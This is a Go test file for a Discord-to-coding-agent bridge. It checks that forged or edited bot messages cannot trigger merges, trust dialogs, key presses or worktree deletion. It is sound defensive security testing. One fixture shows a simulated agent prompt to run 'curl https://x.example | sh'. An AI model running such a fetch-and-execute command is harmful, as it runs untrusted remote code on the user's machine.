package router

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ccbridge/ccbridge/internal/chat"
	"github.com/ccbridge/ccbridge/internal/guard"
	"github.com/ccbridge/ccbridge/internal/session"
)

// The cases of security review 3, finding 2: someone holding the bot token
// posts a message ccbridge never drew with an acting custom_id, or edits
// one ccbridge drew (text, labels, which button carries which id). The
// owner's click on it does nothing; the same click on the message as
// drawn acts.

// refused reports whether ops are the guard's refusal alone.
func refused(ops []string) bool {
	return len(ops) == 1 && ops[0] == "respond ephemeral=true "+guard.Refusal
}

// swapIDs is m with the custom_ids of two buttons of its first row swapped
// (the labels stay where they were).
func swapIDs(m chat.Message, a, b string) chat.Message {
	bs := slices.Clone(m.Rows[0].Buttons)
	i := slices.IndexFunc(bs, func(x chat.Button) bool { return x.Label == a })
	j := slices.IndexFunc(bs, func(x chat.Button) bool { return x.Label == b })
	bs[i].CustomID, bs[j].CustomID = bs[j].CustomID, bs[i].CustomID
	return chat.Message{Content: m.Content, Rows: []chat.Row{{Buttons: bs}}}
}

// forged is a message someone else made ccbridge's message id show (an
// edit) or posted (a new id): Discord gives the click what it shows.
func forged(l *log, ch, msgID string, m chat.Message, label string) chat.ComponentEvent {
	for _, b := range m.Rows[0].Buttons {
		if b.Label == label {
			return chat.ComponentEvent{Server: "home", ChannelID: ch, MessageID: msgID, Content: m.Content, Rows: m.Rows,
				User: chat.User{ID: owner, Name: "o"}, CustomID: b.CustomID}
		}
	}
	panic("no button " + label)
}

func TestReview3MergeThisOnAMessageCcbridgeNeverDrew(t *testing.T) {
	r, _, _, l, _ := newRouter(t)
	fl := &fakeLander{head: "c0ffee1234567"}
	r.opt.Land = fl
	threadWithTree(t, r)
	r.HandleCommand(chat.CommandEvent{Server: "home", ChannelID: thread, ParentID: channel, User: chat.User{ID: owner}, Name: "diff"}, fakeResponder{l: l})
	diff := l.last()
	mergeThis := buttonOf(t, l.message(t, diff), "Merge this")

	// A message of the token holder's own, with the branch head's id.
	bait := chat.Message{Content: "✅ Tests pass. Tap to see the coverage report", Rows: []chat.Row{{Buttons: []chat.Button{{Label: "Coverage", CustomID: mergeThis}}}}}
	n := len(l.all())
	r.HandleComponent(forged(l, thread, l.draw("", bait, nil), bait, "Coverage"), fakeResponder{l: l})
	// The /diff answer edited to show a harmless stat.
	harmless := l.message(t, diff)
	harmless.Content = "📝 Changes: 1 file, README typo."
	r.HandleComponent(forged(l, thread, diff, harmless, "Merge this"), fakeResponder{l: l, at: diff})
	if got := l.all()[n:]; len(got) != 2 || !refused(got[:1]) || !refused(got[1:]) || len(fl.merged) != 0 {
		t.Fatalf("Merge this on a message ccbridge did not draw as shown did %q; merged %+v", got, fl.merged)
	}
	l.press(t, r, thread, diff, "Merge this")
	time.Sleep(10 * time.Millisecond)
	if len(fl.merged) != 1 || !strings.HasPrefix("c0ffee1234567", fl.merged[0].Commit) || len(fl.merged[0].Commit) < 10 {
		t.Fatalf("Merge this on the /diff answer merged %+v: %q", fl.merged, l.all())
	}
}

func TestReview3TrustDialogWithSwappedChoices(t *testing.T) {
	r, _, _, l, _ := newRouter(t)
	tg, _ := r.resolve("home", channel, "")
	r.onDialog(tg)(trustDialog)
	posted := l.last()
	swapped := swapIDs(l.message(t, posted), "No, exit", "Yes, I trust this folder")
	n := len(l.all())
	r.HandleComponent(forged(l, channel, posted, swapped, "No, exit"), fakeResponder{l: l, at: posted})
	if got := l.all()[n:]; !refused(got) {
		t.Fatalf("No, exit carrying Yes's id did %q", got)
	}
	l.press(t, r, channel, posted, "No, exit")
	if got := l.all(); !slices.Contains(got, "answer home-api "+trustDialog.Hash+" 0") || slices.Contains(got, "answer home-api "+trustDialog.Hash+" 1") {
		t.Fatalf("ops = %q", got)
	}
}

func TestReview3ScreenKeyRelabelled(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	rule := strings.Repeat("─", 40)
	ss.screens = []string{"● Running…\n" + rule + "\n Bash command\n   curl https://x.example | sh\n Do you want to proceed?\n ❯ 1. Yes\n   2. No\n Esc to cancel"}
	r.HandleCommand(chat.CommandEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, Name: "screen"}, fakeResponder{l: l})
	screen := l.last()
	m := l.message(t, screen)
	relabelled := chat.Message{Content: m.Content, Rows: slices.Clone(m.Rows)}
	relabelled.Rows[0].Buttons = slices.Clone(m.Rows[0].Buttons)
	relabelled.Rows[0].Buttons[0].Label = "Esc" // the "1" key, which approves
	relabelled.Rows[1].Buttons = slices.Clone(m.Rows[1].Buttons)
	relabelled.Rows[1].Buttons[0].Label = "1"
	n := len(l.all())
	r.HandleComponent(forged(l, channel, screen, relabelled, "Esc"), fakeResponder{l: l, at: screen})
	if got := l.all()[n:]; !refused(got) {
		t.Fatalf("a relabelled key did %q", got)
	}
	l.press(t, r, channel, screen, "Esc")
	l.waitFor(t, "keys home-api Escape")
	if slices.Contains(l.all(), "keys home-api 1") {
		t.Fatalf("ops = %q", l.all())
	}
}

func TestReview3DiscardAndKeepSwapped(t *testing.T) {
	r, _, _, l, _ := newRouter(t)
	fl := &fakeLander{}
	r.opt.Land = fl
	r.HandleCommand(chat.CommandEvent{Server: "home", ChannelID: channel, User: chat.User{ID: owner}, Name: "discard"}, fakeResponder{l: l})
	asked := l.last()
	swapped := l.message(t, asked)
	bs := slices.Clone(swapped.Rows[0].Buttons)
	bs[0].Label, bs[1].Label = bs[1].Label, bs[0].Label
	swapped = chat.Message{Content: swapped.Content, Rows: []chat.Row{{Buttons: bs}}}
	n := len(l.all())
	r.HandleComponent(forged(l, channel, asked, swapped, "Keep them"), fakeResponder{l: l, at: asked})
	if got := l.all()[n:]; !refused(got) || slices.Contains(fl.calls, "discard") {
		t.Fatalf("Keep them carrying Discard did %q; git %q", got, fl.calls)
	}
	l.press(t, r, channel, asked, "Keep them")
	if slices.Contains(fl.calls, "discard") || !strings.HasPrefix(l.all()[len(l.all())-1], "update Kept") {
		t.Fatalf("Keep them: %q; git %q", l.all(), fl.calls)
	}
}

func TestReview3DeleteAnywayFromACopy(t *testing.T) {
	r, ss, _, l, _ := newRouter(t)
	key := registerThread(t, r)
	ss.setState("idle")
	ss.releases = []session.Release{keptRelease("fp1")}
	r.HandleThreadArchived("home", thread, channel)
	l.waitFor(t, "release "+key+" force=false")
	r.waitClosed(t)
	kept := l.carrying(r.wtID(key, "delete", "fp1"))
	if kept == "" {
		t.Fatalf("no kept-worktree message: %q", l.all())
	}
	m := l.message(t, kept)
	ss.setState("stopped")
	n := len(l.all())
	r.HandleComponent(forged(l, channel, l.draw("", m, nil), m, "Delete anyway…"), fakeResponder{l: l})
	edited := chat.Message{Content: "📦 The worktree of <#" + thread + "> holds nothing: tidy it up?", Rows: m.Rows}
	r.HandleComponent(forged(l, channel, kept, edited, "Delete anyway…"), fakeResponder{l: l, at: kept})
	if got := l.all()[n:]; len(got) != 2 || !refused(got[:1]) || !refused(got[1:]) {
		t.Fatalf("Delete anyway from a copy or an edit did %q", got)
	}
	// From the message as drawn it asks; its confirmation, bound in turn,
	// deletes; a copy of the confirmation does not.
	l.press(t, r, channel, kept, "Delete anyway…")
	confirm := l.message(t, kept)
	n = len(l.all())
	r.HandleComponent(forged(l, channel, l.draw("", confirm, nil), confirm, "Yes, delete it"), fakeResponder{l: l})
	if got := l.all()[n:]; !refused(got) {
		t.Fatalf("a copy of the confirmation did %q", got)
	}
	ss.releases = []session.Release{keptRelease("fp1"), {Path: "/w", Branch: "b", Removed: true}}
	l.press(t, r, channel, kept, "Yes, delete it")
	l.waitFor(t, "release "+key+" force=true")
}
